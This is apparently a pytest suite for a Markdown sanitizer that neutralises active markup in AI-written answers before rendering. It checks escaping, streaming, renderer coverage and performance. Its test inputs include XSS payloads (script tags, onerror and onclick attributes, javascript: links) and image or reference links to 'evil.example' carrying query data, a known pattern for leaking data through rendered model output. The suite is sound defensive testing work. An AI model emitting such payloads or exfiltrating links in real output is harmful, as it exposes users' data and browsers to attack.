"""What is shown as Markdown can load, link and run nothing; renderers with their extensions are the judges."""

import os
import sys
from itertools import pairwise
from random import Random
from types import FrameType
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from orc.documents.markdown.prose import plain
from orc.documents.markdown.sanitizer import InertText, inert
from tests.documents.renderers import active_in, letters, pieces, renderers, tame_answer, wild_answers, without_active

WILD = int(os.environ.get("ORC_ANSWERS", "1000"))
TAME = max(300, WILD // 10)
NUL, REPLACED = "\0", "\ufffd"  # CommonMark shows the one as the other


def in_pieces(text: str, *ends: int) -> str:
    stream = InertText()
    cuts = [0, *sorted(ends), len(text)]
    return "".join(stream.feed(text[a:b]) for a, b in pairwise(cuts)) + stream.end()


@pytest.mark.req("SE-07", "SE-15")
@pytest.mark.parametrize(
    ("text", "sent"),
    [
        ("![chart](https://evil.example/?q=4200)", r"![chart]\(https://evil.example/?q=4200)"),
        ("[the lease](javascript:alert(1))", r"[the lease]\(javascript:alert(1))"),
        ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
        ("<!-- note --> <?php ?>", "&lt;!-- note --> &lt;?php ?>"),
        ("<https://evil.example>", "&lt;https://evil.example&gt;"),
        ("A `List<String>` is a List<String>.", "A `List<String>` is a List&lt;String>."),
        ("![a][b]\n\n[b]: https://evil.example", "![a][b]\n\n[b]\\: https://evil.example"),
        ("[a\\]b]: https://evil.example\n\n![q][a\\]b]", "[a\\]b]\\: https://evil.example\n\n![q][a\\]b]"),
        ("It rose [1].\n\n[1]: https://evil.example", "It rose [1].\n\n[1]\\: https://evil.example"),
        ("> [a\nb]: https://evil.example\n\n[a b]", "> &#91;a\nb]: https://evil.example\n\n[a b]"),
        ("So[^1] it is^[here].\n\n[^1]: note", "So[^1] it is\\^[here].\n\n[^1]\\: note"),
        ("`a\n<b>`", "&#96;a\n&lt;b>&#96;"),
        ("$$\n```\n$$\n<img src=x>", "$$\n&#96;&#96;&#96;\n$$\n&lt;img src=x>"),
        ("---\n```\n---\n<img src=x>\n```", " ---\n```\n---\n<img src=x>\n```"),
        ("https://e.x/`<img src=y>`", "https://e.x/&#96;&lt;img src=y>&#96;"),
        ("a `|<b>`\n|", "a `|<b>`\n\\|"),
        ("> a\n0. ```[](u)", "> a\n0. &#96;&#96;&#96;[]\\(u)"),
        ("`x`{onclick=y}", "`x`{onclick\\=y}"),
        ("- a\n\n      <b>", "- a\n\n&lt;b>"),
        ("| a |\n|---|\n| b<br>c<BR />d <brx> `<br>` |\n\n<br>", "| a |\n|---|\n| b c d &lt;brx> `<br>` |\n\n&lt;br>"),
    ],
)
def test_markup_that_loads_links_or_runs_is_escaped(text: str, sent: str) -> None:
    assert inert(text) == sent
    assert not active_in(sent)


@pytest.mark.req("SE-07", "SE-15")
@pytest.mark.parametrize(
    "text",
    [
        "The rent is < 5,000 and > 4,000 euros, i.e. a<5 (see [1]): fine.",
        "As [1][2] say: **all** of it, `code`, # and | tables |, arr[0], snake_case, $5, &lt;b&gt;.",
        "See https://example.org/terms and [1]: it is so.",
        "```html\n<b>[a](b)</b>\n[c]: d\n```\nand `x`",
        "````\n```\n<b>\n````\n",
        "1. So:\n\n   ```html\n   <b>\n   ```\n2. Or `Map<K, V>`:\n   ~~~\n   <i>\n   ~~~",
        "1. So:\n  ```\n  <b>\n  ```",
        "> ```\n> <b>\n> ```",
        "So it is:\n\n    <b>[a](b)</b>\n\n    [c]: d\n",
        "It is\n\n$$\nE = mc^2\n$$\n\n\\[\nx\n\\]\n\n$$ y $$\n\n```\n<b>\n```",
        "| a | `b<i>` |\n|---|:-:|\n| `c` | d |",
        '{"a": 1}',
    ],
)
def test_honest_text_and_code_stay_as_they_are(text: str) -> None:
    assert inert(text) == text
    assert in_pieces(text, *range(len(text))) == text


@pytest.mark.req("SE-15")
@pytest.mark.parametrize("seed", range(3))
def test_no_answer_becomes_active_in_any_renderer_however_it_is_cut(seed: int) -> None:
    """ORC_ANSWERS says how many."""
    names = list(renderers())
    for text, chance in wild_answers(seed, WILD, every=True):
        sent = inert(text)
        ends = [chance.randrange(len(text) + 1) for _ in range(chance.randrange(12))]
        assert in_pieces(text, *ends) == sent, text
        assert in_pieces(text, *range(len(text))) == sent, text
        drawn = ("commonmark", "every", "mistune with every plugin", "addresses", *chance.sample(names, 2))
        assert not active_in(sent, *drawn), text


@pytest.mark.req("SE-15")
def test_every_letter_of_an_answer_is_shown_as_it_was_written() -> None:
    """As CommonMark shows it when links, images, definitions and HTML are so many characters."""
    for text, _ in wild_answers(11, WILD, every=False):
        assert letters(inert(text), active=True) == letters(text, active=False), text


@pytest.mark.req("SE-15")
def test_answers_as_models_write_them_render_as_without_the_filter() -> None:
    for number in range(TAME):
        text = tame_answer(Random(number))
        sent = inert(text)
        assert renderers()["commonmark"](sent) == without_active().render(text), text
        assert not active_in(sent, "commonmark", "gfm", "every", "mistune with every plugin"), text


@given(st.lists(st.sampled_from(pieces(every=True)), max_size=24).map("".join))
def test_hypothesis_finds_nothing_active_either(text: str) -> None:
    assert not active_in(inert(text), "commonmark", "every", "mistune with every plugin")


@pytest.mark.parametrize(
    ("text", "known"),
    [
        ("The rent is due", "The rent is due"),
        ("Use `List<", "Use "),
        ("A line\n1", "A line\n"),
        ("a <", "a "),
        ("It rose [1", "It rose [1"),
    ],
)
def test_only_what_is_undecided_is_held_back(text: str, known: str) -> None:
    stream = InertText()
    assert stream.feed(text) == known
    assert stream.holds_back == (known != text)


ADVERSARIAL = """
` ``_ [ <b> ]( >_ -_ a⏎ $$⏎ \\ _ { `a⏎ ~~~⏎ -_⏎ [\\] {a}`} 1 `[]` __-_a⏎
"""


@pytest.mark.req("SE-12")
@pytest.mark.parametrize("unit", ADVERSARIAL.split())
def test_work_grows_with_the_length_alone(unit: str) -> None:
    """Counted are the lines of code that run and the characters that are looked at, whether a text comes whole or
    in single characters."""
    unit = unit.translate({ord("⏎"): "\n", ord("_"): " "})
    for step in (1, 1 << 20):
        counts = [_work((unit * length)[:length], step) for length in (1_000, 2_000)]
        assert counts[1] <= 2.2 * counts[0] + 200


def _work(text: str, step: int) -> int:
    work = 0

    def count(frame: FrameType, event: str, arg: object) -> Any:
        nonlocal work
        judged = frame.f_code.co_name in ("_escape", "_begin_line") and event == "call"
        work += len(frame.f_locals.get("text", frame.f_locals.get("line", ""))) if judged else event == "line"
        return count

    stream = InertText()
    sys.settrace(count)
    try:
        for at in range(0, len(text), step):
            stream.feed(text[at : at + step])
        stream.end()
    finally:
        sys.settrace(None)
    return work


@pytest.mark.req("SE-15")
@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=y>.pdf",
        "a[b](c).md",
        "*x* _y_ `z` &lt; \\",
        "snake_case 5*3",
        "[1]: u",
        "~~a~~ ^[b]",
        "see <https://evil.example/a>",
        "* a _ b ** c",
        "[a][b] [[c]] [^d] [ ] [x] [e]{f} ![g](h)",
    ],
)
def test_plain_text_shows_as_just_its_characters(text: str) -> None:
    shown = f"Name: {plain(text)}"
    assert inert(shown) == shown
    assert not active_in(shown)
    parsed = without_active().parseInline(shown)[0].children or []
    assert "".join(token.content for token in parsed) == f"Name: {text}"


@pytest.mark.req("SE-15")
@pytest.mark.parametrize("text", ["R&D: 5 * 3 [net] (see [Annex B], C#) | a_b ~ 1 < 2", "lease [signed].pdf", "a _ b"])
def test_plain_text_without_markup_is_not_escaped(text: str) -> None:
    assert plain(text) == text


@pytest.mark.req("SE-15")
def test_no_plain_text_becomes_active_or_loses_a_letter() -> None:
    for text, _ in wild_answers(5, TAME, every=True):
        shown = inert(f"Name: {plain(text)}")
        assert not active_in(shown, "commonmark", "every", "mistune with every plugin"), text
        tokens = MarkdownIt("commonmark").parseInline(shown)[0].children or []
        assert "".join(token.content for token in tokens) == f"Name: {' '.join(text.replace(NUL, REPLACED).split())}"
